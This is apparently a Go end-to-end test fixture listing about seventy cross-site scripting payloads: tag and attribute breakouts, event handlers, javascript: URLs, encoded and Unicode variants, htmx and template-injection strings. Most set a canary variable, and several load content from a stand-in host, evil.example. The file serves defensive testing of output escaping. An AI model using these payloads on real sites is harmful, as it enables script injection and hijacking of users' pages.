package e2e

import "strings"

// hostileTexts are texts that became code in other programs, each in its own way of getting out of where it stands. What
// runs sets window.canary or opens a dialog. All are one line of at most 100 characters, so that they fit into any field.
func hostileTexts() []string {
	list := strings.Split(strings.TrimSpace(hostileLines), "\n")
	return append(list,
		"\u2028<img src=x onerror=window.canary=1>\u2029", "\u202e<script>window.canary=1</script>", "\u200b<img src=x onerror=window.canary=1>\ufeff",
		"e\u0301\u0301\u0301<img src=x onerror=window.canary=1>\U0001F4A9", "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
		"`<img src=x onerror=window.canary=1>`", "`;window.canary=1;//",
	)
}

const hostileLines = `
<script>window.canary=1</script>
<SCRIPT>window.canary=1</SCRIPT>
<script src=data:text/javascript,window.canary=1></script>
<script/x>window.canary=1</script
<img src=x onerror=window.canary=1>
<iMg/sRc=x/oNeRrOr=window.canary=1>
<img src=x onerror="window.canary=1"
<img src=x onerror=alert(1)>
<svg onload=window.canary=1>
<svg/onload=confirm(1)>
<svg><script>window.canary=1</script></svg>
<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>
<body onload=window.canary=1>
<details open ontoggle=window.canary=1>x</details>
<input autofocus onfocus=window.canary=1>
<select autofocus onfocus=window.canary=1></select>
<video><source onerror=window.canary=1></video>
<audio src=x onerror=window.canary=1>
<iframe srcdoc="<script>parent.canary=1</script>"></iframe>
<iframe src="javascript:parent.canary=1"></iframe>
<object data="javascript:window.canary=1"></object>
<embed src="javascript:window.canary=1">
<form action="javascript:window.canary=1"><button>x</button></form>
<a href="javascript:window.canary=1">x</a>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example/x)}</style>
<marquee onstart=window.canary=1>x</marquee>
<math><mtext><table><mglyph><style><img src=x onerror=window.canary=1>
<noscript><p title="</noscript><img src=x onerror=window.canary=1>">
<template><img src=x onerror=window.canary=1></template>
<div hx-get="/" hx-trigger="load" hx-on::after-request="window.canary=1"></div>
<div hx-get="/" hx-trigger="load" hx-vals="js:{x:window.canary=1}"></div>
<div data-poll hx-get="//evil.example/" hx-trigger="load"></div>
<!--><img src=x onerror=window.canary=1>-->
--><img src=x onerror=window.canary=1>
<![CDATA[<img src=x onerror=window.canary=1>]]>
</title><script>window.canary=1</script>
</textarea><script>window.canary=1</script>
</script><script>window.canary=1</script>
</style><script>window.canary=1</script>
</option></select><img src=x onerror=window.canary=1>
</code></pre><img src=x onerror=window.canary=1>
</td></tr></table><img src=x onerror=window.canary=1>
"><script>window.canary=1</script>
'><script>window.canary=1</script>
" autofocus onfocus=window.canary=1 x="
' autofocus onfocus=window.canary=1 x='
"><img src=x onerror=window.canary=1 x="
&quot;><img src=x onerror=window.canary=1>
&#34;&#62;&#60;img src=x onerror=window.canary=1&#62;
&lt;script&gt;window.canary=1&lt;/script&gt;
%3Cscript%3Ewindow.canary=1%3C/script%3E
\u003cscript\u003ewindow.canary=1\u003c/script\u003e
\x3cscript\x3ewindow.canary=1\x3c/script\x3e
+ADw-script+AD4-window.canary=1+ADw-/script+AD4-
{{constructor.constructor('window.canary=1')()}}
${window.canary=1}
<%= window.canary=1 %>
#{window.canary=1}
';window.canary=1;//
";window.canary=1;//
javascript:window.canary=1
data:text/html,<script>opener.canary=1</script>
=HYPERLINK("javascript:window.canary=1","x")
`
